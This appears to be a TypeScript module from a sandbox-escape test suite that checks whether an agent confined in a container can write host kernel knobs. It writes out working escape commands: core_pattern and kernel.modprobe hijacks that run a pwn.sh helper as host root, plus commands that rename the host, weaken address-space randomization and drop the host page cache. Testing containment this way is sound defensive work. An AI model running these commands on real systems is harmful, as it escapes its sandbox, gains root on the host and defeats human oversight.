/**
 * Writes to the kernel's knobs from inside the fence: uid 0 without capabilities still passes
 * the permission check of most sysctls, and two of them (core_pattern, modprobe) make the host
 * kernel run a program of the agent's as host root. Each changed knob is restored in the row's
 * cleanup; a knob the row's user cannot dry-write on the host is not armed.
 */
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import type { Host } from '../harness/host.js';
import { armKnob, readKnob } from '../harness/knobs.js';
import { poll } from '../harness/spawn.js';
import { RAM_LOCK } from './resources.js';
import type { Row } from './types.js';

interface KnobRow {
  id: string;
  title: string;
  path: string;
  /** The value the attack writes (a marker value, or a helper path). */
  value(host: Host, original: string): string;
  /** Bash run after the write (the trigger of a helper), if any. */
  trigger?: string;
}

/** A row that writes `value` into a knob; through when the host reads that value (or a helper ran). */
function knobRow(k: KnobRow): Row {
  return {
    id: k.id,
    klass: 'kernel',
    title: k.title,
    proof: k.trigger
      ? 'the knob on the host, and a marker the helper writes as host root'
      : 'the knob read on the host',
    lock: k.path,
    restores: true,
    async arm(host) {
      const armed = await armKnob(host, k.path);
      if ('unarmed' in armed) return armed.unarmed;
      host.facts.original = armed.original;
      return null;
    },
    command(host) {
      const value = k.value(host, host.facts.original as string);
      const helper = k.trigger ? `printf '#!/bin/sh\\nid > ${host.outside}/proof\\n' > pwn.sh; chmod +x pwn.sh; ` : '';
      return `${helper}echo '${value}' > ${k.path}; cat ${k.path}; ${k.trigger ?? 'true'}`;
    },
    async judge(host) {
      const now = readKnob(k.path);
      const want = k.value(host, host.facts.original as string);
      if (now !== want) return { failed: false, evidence: `${k.path} still reads ${JSON.stringify(now)} on the host` };
      const proof = join(host.outside, 'proof');
      const ran = k.trigger ? await poll(() => existsSync(proof), 5_000) : undefined;
      const helper = ran ? `; the helper ran as host root: ${host.read(proof)?.trim()}` : '';
      return { failed: true, evidence: `${k.path} reads ${JSON.stringify(now)} on the host${helper}` };
    },
  };
}

const bump = (_host: Host, original: string): string => String(Number(original) + 1);

export const kernelKnobRows: Row[] = [
  knobRow({
    id: 'sysctl-core-pattern',
    title: 'pipe core dumps to a workspace script and crash a process (host root)',
    path: '/proc/sys/kernel/core_pattern',
    value: (host) => `|${host.ws}/pwn.sh`,
    // A piped core_pattern ignores RLIMIT_CORE (but for 1): no ulimit needed.
    trigger: `sh -c 'kill -SEGV $$'; true`,
  }),
  knobRow({
    id: 'sysctl-modprobe',
    title: 'point kernel.modprobe at a workspace script and exec an unknown binary format (host root)',
    path: '/proc/sys/kernel/modprobe',
    value: (host) => `${host.ws}/pwn.sh`,
    trigger: `printf '\\377\\377\\377\\377' > unknown; chmod +x unknown; ./unknown; true`,
  }),
  knobRow({
    id: 'sysctl-hostname',
    title: 'rename the host (kernel.hostname)',
    path: '/proc/sys/kernel/hostname',
    value: (host) => host.tag,
  }),
  knobRow({ id: 'sysctl-panic', title: 'change kernel.panic', path: '/proc/sys/kernel/panic', value: bump }),
  knobRow({
    id: 'sysctl-randomize-va-space',
    title: 'weaken address-space randomization (kernel.randomize_va_space)',
    path: '/proc/sys/kernel/randomize_va_space',
    value: (_host, original) => (original === '2' ? '1' : '2'),
  }),
  {
    ...knobRow({
      id: 'sys-knob-write',
      title: 'write a knob under /sys (KSM or THP tuning)',
      path: '/sys/kernel/mm/ksm/sleep_millisecs',
      value: bump,
    }),
    async arm(host) {
      // The first tuning knob this kernel has.
      const candidates = [
        '/sys/kernel/mm/ksm/sleep_millisecs',
        '/sys/kernel/mm/ksm/pages_to_scan',
        '/sys/kernel/mm/transparent_hugepage/khugepaged/scan_sleep_millisecs',
      ];
      const path = candidates.find((p) => existsSync(p));
      if (!path) return 'none of the /sys tuning knobs exists on this kernel';
      const armed = await armKnob(host, path);
      if ('unarmed' in armed) return armed.unarmed;
      Object.assign(host.facts, { original: armed.original, path });
      return null;
    },
    command: (host) => `echo ${Number(host.facts.original) + 1} > ${host.facts.path}; cat ${host.facts.path}`,
    judge(host) {
      const path = host.facts.path as string;
      const now = readKnob(path);
      const failed = now === String(Number(host.facts.original) + 1);
      return { failed, evidence: `${path} reads ${JSON.stringify(now)} on the host (was ${host.facts.original})` };
    },
  },
  {
    id: 'sysctl-drop-caches',
    klass: 'kernel',
    title: "drop the host's page cache (vm.drop_caches)",
    proof: 'a bait file the host cached is no longer resident (fincore)',
    lock: RAM_LOCK, // memory pressure from another row would evict the bait too
    async arm(host) {
      const bait = join(host.outside, 'cached');
      const made = await host.sh(
        `dd if=/dev/zero of=${bait} bs=1M count=32 conv=fsync status=none && echo 1 > /proc/sys/vm/drop_caches && cat ${bait} >/dev/null && fincore --bytes --noheadings --output RES ${bait}`,
      );
      if (made.code !== 0) return `${host.user.name} cannot drop caches on the host (${made.stderr.trim()})`;
      const resident = Number(made.stdout.trim());
      if (!(resident > 16 << 20)) return `the page cache of a file read back is not observable (${made.stdout.trim()})`;
      host.facts.resident = resident;
      return null;
    },
    command: () => 'sync; echo 1 > /proc/sys/vm/drop_caches',
    async judge(host) {
      const out = await host.sh(`fincore --bytes --noheadings --output RES ${join(host.outside, 'cached')}`, {
        root: true,
      });
      const resident = Number(out.stdout.trim());
      return {
        failed: resident < (host.facts.resident as number) / 4,
        evidence: `bait resident ${resident} bytes (was ${host.facts.resident})`,
      };
    },
  },
];
